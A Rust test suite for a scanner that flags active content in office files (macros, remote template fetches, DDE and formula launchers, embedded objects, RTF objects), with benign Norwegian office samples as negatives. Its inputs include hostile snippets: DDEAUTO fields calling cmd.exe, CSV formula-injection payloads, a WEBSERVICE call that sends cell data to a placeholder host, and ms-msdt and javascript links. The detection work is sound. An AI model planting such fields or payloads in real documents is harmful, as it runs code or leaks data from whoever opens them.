//! What acts in office documents, in the forms that it is written in, and what people write that does not.

use super::super::enclosed::tests::document;
use super::act;
use crate::content::acting::Acting;

const KIND: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A document with one part.
fn with(path: &str, part: &str, bytes: &[u8]) -> Option<Acting> {
    act(path, &document(&[("[Content_Types].xml", b"<Types/>"), (part, bytes)]))
}

/// A document with one relation.
fn relation(kind: &str, target: &str, is_external: bool) -> Option<Acting> {
    let mode = if is_external { " TargetMode=\"External\"" } else { "" };
    let row = format!("<Relationship Id=\"r\" Type=\"{KIND}/{kind}\" Target=\"{target}\"{mode}/>");
    let rows = format!("<Relationships xmlns=\"http://schemas.openxmlformats.org\">{row}</Relationships>");
    with("a.docx", "word/_rels/document.xml.rels", rows.as_bytes())
}

fn fetches(act: Option<&Acting>) -> bool {
    matches!(act, Some(Acting::Fetches(_)))
}

#[test]
fn macros_are_found_by_what_they_lie_in() {
    let old = b"..R\0o\0o\0t\0 \0E\0_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0..";
    let renamed = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), old].concat();
    assert_eq!(act("a.doc", old), Some(Acting::Macros));
    assert_eq!(act("a.txt", old), None);
    for (path, part, bytes) in [
        ("a.docx", "word/vbaProject.bin", b"x".as_slice()),
        ("a.docx", "WORD\\VBAPROJECT.BIN", b"x"),
        ("a.docx", "word/x.dat", &renamed),
        ("a.xlsx", "xl/macroSheets/sheet1.xml", b"<a/>"),
        ("a.xlsx", "xl/worksheets/m.xml", b"<xm:macrosheet/>"),
        ("a.ods", "Basic/Standard/Module1.xml", b"<a/>"),
        ("a.odt", "Scripts/python/x.py", b"x"),
        ("a.odt", "content.xml", b"<o:a><s:event-listener x:href=\"vnd.sun.star.script:a?location=document\"/></o:a>"),
        ("a.odp", "content.xml", b"<p:event-listener p:action=\"execute-macro\"/>"),
        ("a.pptx", "ppt/slides/slide1.xml", b"<a:hlinkClick action=\"ppaction://macro?name=a\"/>"),
        ("a.docx", "word/embeddings/a.bin", &document(&[("xl/vbaProject.bin", b"x")])),
    ] {
        assert_eq!(with(path, part, bytes), Some(Acting::Macros), "{path} {part}");
    }
    assert_eq!(relation("vbaProject", "x.bin", false), Some(Acting::Macros));
    assert_eq!(relation("xlMacrosheet", "worksheets/m.xml", false), Some(Acting::Macros));
    for part in ["META-INF/manifest.xml", "Basic/script-lc.xml", "Basic/Standard/script-lb.xml", "Basic/", "Scripts/"] {
        assert_eq!(with("a.odt", part, b"<a/>"), None, "{part}");
    }
}

#[test]
fn what_is_fetched_when_a_document_is_opened_is_told() {
    let at_the_office = "file:///\\\\server\\a.dotx";
    assert_eq!(relation("attachedTemplate", at_the_office, true), Some(Acting::Asks(at_the_office.to_owned())));
    for (kind, target) in [
        ("attachedTemplate", "https://x.example/a.dotm"),
        ("frame", "https://x.example"),
        ("subDocument", "\\\\x.example\\a.docx"),
        ("image", "HTTP://x.example/a.png"),
        ("image", "&#104;ttps://x.example/a.png"),
        ("oleObject", "mhtml:https://x.example!x-usc:a"),
        ("externalLinkPath", "file:////x.example/a.xlsx"),
        ("externalLinkPath", "https://x.sharepoint.com/a.xlsx"),
        ("mailMergeSource", "//x.example/a.mdb"),
        ("hyperlink", "https://x.example"),
    ] {
        let told = relation(kind, target, true);
        assert!(if kind == "hyperlink" { told.is_none() } else { fetches(told.as_ref()) }, "{kind} {target} {told:?}");
    }
    for (path, part, text) in [
        ("a.docx", "word/document.xml", "<w:fldSimple w:instr=' INCLUDEPICTURE \"https://x.example/a.png\" \\d '/>"),
        ("a.docx", "word/document.xml", "<w:fldSimple w:dirty='1' w:instr=' INCLUDETEXT \"\\\\\\\\x.example\\\\a\"'/>"),
        (
            "a.docx",
            "word/settings.xml",
            "<w:s><w:updateFields w:val='true'/><w:fldSimple w:instr='INCLUDETEXT https://x.example/a'/></w:s>",
        ),
        ("a.xlsx", "xl/connections.xml", "<c><connection name='a' refreshOnLoad='1'><dbPr/></connection></c>"),
        (
            "a.xlsx",
            "xl/connections.xml",
            "<c><connection name='a' interval='5'><webPr url='https://x.example'/></connection></c>",
        ),
        ("a.xlsx", "xl/x.xml", "<a><workbookPr refreshAllConnections='1'/><connection name='a'/></a>"),
        ("a.xlsx", "xl/queryTables/q.xml", "<queryTable name='a' refreshOnLoad='1'/>"),
        (
            "a.xlsx",
            "xl/p.xml",
            "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='external'/></pivotCacheDefinition>",
        ),
        ("a.xlsx", "xl/worksheets/sheet1.xml", "<x:f>_xlfn.WEBSERVICE(\"https://x.example/\"&amp;A1)</x:f>"),
        ("a.xlsx", "xl/worksheets/sheet1.xml", "<f>SUM(A1,_xlfn.IMAGE ( \"https://x.example/a.png\"))</f>"),
        ("a.docx", "word/d.xml", "<v:imagedata src='https://x.example/a.png'/>"),
        ("a.odt", "content.xml", "<d:image xlink:href='https://x.example/a.png'/>"),
        ("a.odt", "styles.xml", "<s:background-image l:href='//x.example/a.png'/>"),
        ("a.odt", "content.xml", "<text:section-source xlink:href='file://x.example/a.odt'/>"),
        ("a.odt", "Object 1/content.xml", "<draw:floating-frame xlink:href='https://x.example'/>"),
        ("a.odt", "meta.xml", "<meta:template xlink:href='https://x.example/a.ott'/>"),
        ("a.ods", "content.xml", "<t:c t:formula=\"of:=['file://x.example/a.ods'#$Ark1.A1]\"/>"),
        ("a.ods", "content.xml", "<t:c t:formula='of:=WEBSERVICE(&quot;https://x.example&quot;)'/>"),
    ] {
        let told = with(path, part, text.as_bytes());
        assert!(fetches(told.as_ref()), "{text} {told:?}");
    }
    // A picture that is tied to a link.
    let tied = |id: &str| {
        let rows =
            "<Relationship Id=\"r1\" Type=\"a/hyperlink\" Target=\"https://x.example/a.png\" TargetMode=\"External\"/>";
        let picture = format!("<a:blip r:link=\"{id}\"/>");
        let parts = [("word/document.xml", picture.as_bytes()), ("word/_rels/document.xml.rels", rows.as_bytes())];
        act("a.docx", &document(&parts))
    };
    assert!(fetches(tied("r1").as_ref()) && tied("r2").is_none());
    let wide: Vec<u8> =
        "\u{feff}<draw:image href='https://x.example'/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(fetches(with("a.odt", "content.xml", &wide).as_ref()));
}

#[test]
fn what_starts_a_program_is_told() {
    let field = |runs: &str| {
        format!("<w:p><w:fldChar w:fldCharType='begin'/>{runs}<w:fldChar w:fldCharType='separate'/></w:p>")
    };
    for (path, part, text) in [
        (
            "a.docx",
            "word/document.xml",
            "<w:fldSimple w:instr=' ddeauto c:\\\\windows\\\\cmd.exe \"/k a\" '/>".to_owned(),
        ),
        (
            "a.docx",
            "word/header1.xml",
            field("<w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText> a</w:instrText>"),
        ),
        (
            "a.docx",
            "word/document.xml",
            "<w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO a</w:instrText>".to_owned(),
        ),
        ("a.docx", "word/document.xml", field("<w:instrText>&#68;DEAUTO<![CDATA[ a]]></w:instrText>")),
        (
            "a.docx",
            "word/document.xml",
            field(&format!(
                "{}<w:t>DDEAUTO a</w:t><w:fldChar w:fldCharType='end'/>",
                field("<w:instrText>QUOTE a</w:instrText>")
            )),
        ),
        (
            "a.xlsx",
            "xl/externalLinks/externalLink1.xml",
            "<externalLink><ddeLink ddeService='cmd'/></externalLink>".to_owned(),
        ),
        ("a.xlsx", "xl/worksheets/sheet1.xml", "<f>cmd|'/c calc'!A0</f>".to_owned()),
        ("a.xlsx", "xl/worksheets/sheet1.xml", "<f>1+CALL(\"a\",\"b\")</f>".to_owned()),
        (
            "a.ods",
            "content.xml",
            "<c table:formula='of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;a&quot;)'/>".to_owned(),
        ),
        ("a.odt", "content.xml", "<text:dde-connection-decl office:dde-application='cmd'/>".to_owned()),
        (
            "a.odp",
            "content.xml",
            "<presentation:event-listener presentation:action='execute' xlink:href='a'/>".to_owned(),
        ),
        ("a.pptx", "ppt/slides/slide1.xml", "<a:hlinkMouseOver action='ppaction://program'/>".to_owned()),
        ("a.pptx", "ppt/slides/slide1.xml", "<p:cmd type='verb' cmd='3'/>".to_owned()),
    ] {
        assert_eq!(with(path, part, text.as_bytes()), Some(Acting::Starts), "{text}");
    }
    for table in ["Namn;Tal\n=cmd|'/c calc'!A1;2", "a,\"+cmd|'/c'!A1\"", "=DDE(\"cmd\";\"/c\")"] {
        assert_eq!(act("a.csv", table.as_bytes()), Some(Acting::Starts), "{table}");
    }
    assert_eq!(
        act(
            "a.csv",
            b"- Namn | Alder!;-Ring oss|Kom innom!;=> Ja | Nei;-5;=SUM(A1);+47 57 00 40 00;@lia;Bruk CALL(a)!"
        ),
        None
    );
    assert_eq!(relation("control", "activeX/activeX1.xml", false), Some(Acting::Starts));
    let file = b"\xd0\xcf\x11\xe0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0..Faktura.PDF.exe\0";
    assert_eq!(with("a.docx", "word/embeddings/oleObject1.bin", file), Some(Acting::Starts));
    assert_eq!(with("a.docx", "word/activeX/activeX1.bin", b"x"), Some(Acting::Starts));
    assert_eq!(with("a.docx", "word/a.bin", b"\xd0\xcf\x11\xe0"), Some(Acting::Carries));
    let wide = b"\xd0\xcf\x11\xe0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0..a\0.\0J\0S\0\0\0";
    assert_eq!(act("a.doc", wide), Some(Acting::Starts));
    assert_eq!(act("a.doc", &file[..file.len() - 2]), Some(Acting::Carries));
    assert_eq!(act("a.doc", file), Some(Acting::Starts));
    assert_eq!(act("a.doc", b"\xd0\xcf\x11\xe0\x13 D\0D\0E\0A\0U\0T\0O\0 \0c\0:\0"), Some(Acting::Starts));
}

#[test]
fn what_lies_in_a_document_is_told() {
    for (kind, target) in [
        ("oleObject", "embeddings/oleObject1.bin"),
        ("package", "embeddings/faktura.pdf"),
        ("aFChunk", "afchunk.docx"),
        ("package", "a.vsdx"),
    ] {
        assert_eq!(relation(kind, target, false), Some(Acting::Carries), "{kind}");
    }
    assert_eq!(relation("aFChunk", "afchunk.mht", false), Some(Acting::Unread));
    let object = b"<draw:object-ole xlink:href='./Object 2'/>";
    assert_eq!(with("a.odt", "content.xml", object), Some(Acting::Carries));
    for target in ["file:///K:\\Felles\\a.docx", "\\\\server\\a.docx"] {
        assert_eq!(relation("hyperlink", target, true), Some(Acting::Strays(target.to_owned())));
    }
    for target in ["file:///C:\\a.exe", "javascript:a", "ms-msdt:/id", "\\\\x.example\\a", "vnd.sun.star.script:a"] {
        assert_eq!(relation("hyperlink", target, true), Some(Acting::Link(target.to_owned())));
        let link = format!("<text:a xlink:href=\"{target}\"/>");
        assert_eq!(with("a.odt", "content.xml", link.as_bytes()), Some(Acting::Link(target.to_owned())));
    }
}

#[test]
fn what_acts_in_rtf_is_told() {
    for (text, told) in [
        ("{\\object\\objupdate", Acting::Starts),
        ("{\\object\\objautlink{\\*\\objdata 0105}}", Acting::Starts),
        ("{\\object\\OBJOCX}", Acting::Starts),
        ("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}", Acting::Carries),
        ("{\\object{\\*\\objdata 01{\\*\\a}05 5061636b616765002e65786500}}", Acting::Starts),
        ("{\\*\\template https://x.example/a.dotm}", Acting::Fetches("https://x.example/a.dotm".to_owned())),
        ("{\\*\\template \\\\\\'5cx.example\\\\a.dotm}", Acting::Fetches("\\\\x.example\\a.dotm".to_owned())),
        ("{\\field{\\*\\fldinst D{\\b DE}AUTO c:\\\\\\\\cmd.exe \"/k\"}}", Acting::Starts),
        ("{\\field{\\*\\fldinst \\u68?\\u68 ?E a}}", Acting::Starts),
        (
            "{\\field{\\*\\fldinst INCLUDEPICTURE \"https://x.example/a.png\" \\\\d}}",
            Acting::Fetches("https://x.example/a.png".to_owned()),
        ),
        ("{\\field{\\*\\fldinst HYPERLINK \"file:///C:/a.exe\"}}", Acting::Link("file:///C:/a.exe".to_owned())),
        (
            "{\\shp{\\sp{\\sn pibName}{\\sv https://x.example/a.png}}}",
            Acting::Fetches("https://x.example/a.png".to_owned()),
        ),
        (
            "{\\*\\filetbl{\\file\\fid0\\fnetwork \\\\\\\\x.example\\\\a.rtf}}",
            Acting::Fetches("\\\\x.example\\a.rtf".to_owned()),
        ),
        ("{\\pict\\bin3 {{{}{\\object\\objupdate}", Acting::Starts),
    ] {
        assert_eq!(act("a.rtf", format!("{{\\rtf1{text}}}").as_bytes()), Some(told), "{text}");
    }
    for text in [
        " Hei \\'e5 {\\b objupdate} \\\\objupdate {\\*\\template C:\\\\Users\\\\kari\\\\Normal.dotm}",
        "{\\field{\\*\\fldinst HYPERLINK \"https://www.udir.no\" \\\\o \"DDEAUTO\"}{\\fldrslt Udir}}",
        "{\\field{\\*\\fldinst PAGE}}{\\shp{\\sp{\\sn wzName}{\\sv Bilete: skulen}}}{\\pict\\bin9 \\objocx }}",
    ] {
        assert_eq!(act("a.rtf", format!("{{\\rtf1{text}}}").as_bytes()), None, "{text}");
    }
}

#[test]
fn what_offices_write_is_fine() {
    for (kind, target, is_external) in [
        ("hyperlink", "https://www.udir.no/?a=b&amp;c", true),
        ("hyperlink", "mailto:post@lia.kommune.no?subject=Skjema", true),
        ("hyperlink", "tel:57004000", true),
        ("hyperlink", "Skjema%20A.docx", true),
        ("hyperlink", "#_Toc1", true),
        ("hyperlink", "slide2.xml", false),
        ("attachedTemplate", "file:///C:\\Users\\kari\\AppData\\Roaming\\Microsoft\\Templates\\brev.dotx", true),
        ("image", "media/image1.png", false),
        ("image", "file:///C:\\Bilete\\a.png", true),
        ("image", "cid:image001.png@01D5", true),
        ("image", "NULL", true),
        ("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", false),
        ("package", "../embeddings/Microsoft_Excel_Binary_Worksheet.xlsb", false),
        ("externalLinkPath", "budsjett.xlsx", true),
        ("ctrlProp", "../ctrlProps/ctrlProp1.xml", false),
        ("customXml", "../customXml/item1.xml", false),
        ("video", "https://www.youtube.com/embed/a", true),
    ] {
        assert_eq!(relation(kind, target, is_external), None, "{kind} {target}");
    }
    for (path, part, text) in [
        (
            "a.docx",
            "word/document.xml",
            "<w:p><w:t>DDEAUTO c:\\windows INCLUDEPICTURE \"https://x.example\" \\d</w:t></w:p>",
        ),
        ("a.docx", "word/document.xml", "<w:fldSimple w:instr=' HYPERLINK \"https://www.udir.no\" \\l \"a\" '/>"),
        ("a.docx", "word/document.xml", "<w:fldSimple w:instr=' HYPERLINK \\l \"_Toc1\" '/>"),
        ("a.docx", "word/document.xml", "<w:fldSimple w:instr=' TOC \\o \"1-3\" \\h '/>"),
        ("a.docx", "word/document.xml", "<w:fldSimple w:instr=' MACROBUTTON NoMacro [Skriv her] '/>"),
        // What comes with a picture that is pasted from a page: it is kept in the document.
        (
            "a.docx",
            "word/document.xml",
            "<w:fldSimple w:instr=' INCLUDEPICTURE \"https://x.example/a\" \\* MERGEFORMATINET '/>",
        ),
        ("a.docx", "word/settings.xml", "<w:settings><w:updateFields w:val='true'/></w:settings>"),
        ("a.xlsx", "xl/worksheets/sheet1.xml", "<f>HYPERLINK(\"https://www.udir.no\",\"a|b\")</f>"),
        (
            "a.xlsx",
            "xl/worksheets/sheet1.xml",
            "<f>IF(A1=\"WEBSERVICE(\",'DDE(a|b)'!A1,SUM(Tabell1[[#Data],[Ja|Nei (CALL(a))]],[1]Ark1!A1))</f>",
        ),
        (
            "a.xlsx",
            "xl/connections.xml",
            "<connection name='a' refreshedVersion='6' background='1'><dbPr/></connection>",
        ),
        (
            "a.xlsx",
            "xl/p.xml",
            "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/></pivotCacheDefinition>",
        ),
        (
            "a.pptx",
            "ppt/slides/slide1.xml",
            "<a:hlinkClick action='ppaction://hlinksldjump'/><p:cmd type='call' cmd='play'/>",
        ),
        ("a.odt", "content.xml", "<text:a xlink:href='https://www.udir.no'/><draw:image xlink:href='Pictures/1.png'/>"),
        (
            "a.odt",
            "content.xml",
            "<draw:object xlink:href='./Object 1'/><form:form xlink:href='' office:target-frame=''/>",
        ),
        ("a.odt", "meta.xml", "<meta:template xlink:href='../../../Malar/brev.ott'/>"),
        ("a.odp", "content.xml", "<presentation:event-listener presentation:action='next-page'/>"),
        ("a.ods", "content.xml", "<c table:formula='of:=SUM({1;2|3;4})' table:condition='cell-content()=1'/>"),
        ("a.odt", "META-INF/manifest.xml", "<!DOCTYPE m:m PUBLIC \"a\" \"Manifest.dtd\"><m:m/>"),
        ("a.xlsx", "xl/drawings/vmlDrawing1.vml", "<xml><v:fill color2='#fff'/><div>a<br>b</div></xml>"),
    ] {
        assert_eq!(with(path, part, text.as_bytes()), None, "{text}");
    }
}

#[test]
fn what_can_not_be_looked_into_is_told() {
    let nested = (0..4).fold(b"<a/>".to_vec(), |inside, _| document(&[("a.docx", &inside)]));
    assert_eq!(act("a.docx", &nested), Some(Acting::Unread));
    assert_eq!(
        with("a.odt", "content.xml", b"<!DOCTYPE a [<!ENTITY b 'https://x.example'>]><a/>"),
        Some(Acting::Unread)
    );
    assert_eq!(
        with("a.docx", "word/document.xml", b"<?xml version='1.0' encoding='utf-7'?><a/>"),
        Some(Acting::Unread)
    );
    assert_eq!(with("a.docx", "word/document.xml", b"<a b"), Some(Acting::Unread));
    assert_eq!(act("a.docx", b"PK\x03\x04"), Some(Acting::Unread));
    // Whatever else is told, what may be hidden is worse.
    let object = b"\xd0\xcf\x11\xe0";
    assert_eq!(act("a.docx", &document(&[("a.bin", object), ("b.docx", &nested)])), Some(Acting::Unread));
    let deep = [b"{\\rtf1".as_slice(), &b"{".repeat(20_000)].concat();
    assert_eq!(act("a.rtf", &deep), Some(Acting::Unread));
}
